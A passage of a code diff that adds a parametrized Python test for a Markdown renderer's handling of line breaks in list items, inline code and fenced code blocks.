+        ("- one\n  two", "<li>one<br>\ntwo</li>"),
+        ("`one\ntwo`", "<code>one two</code>"),
+        ("```\none\ntwo\n```", "one\ntwo\n</code>"),
+    ],
+)
+def test_lines_as_typed(text: str, html: str) -> None:
+    """What a person typed keeps its line ends; a reply's are Markdown's."""
+    assert html in markdown.to_html(text, breaks=True)
+    assert "<br>" not in markdown.to_html(text)
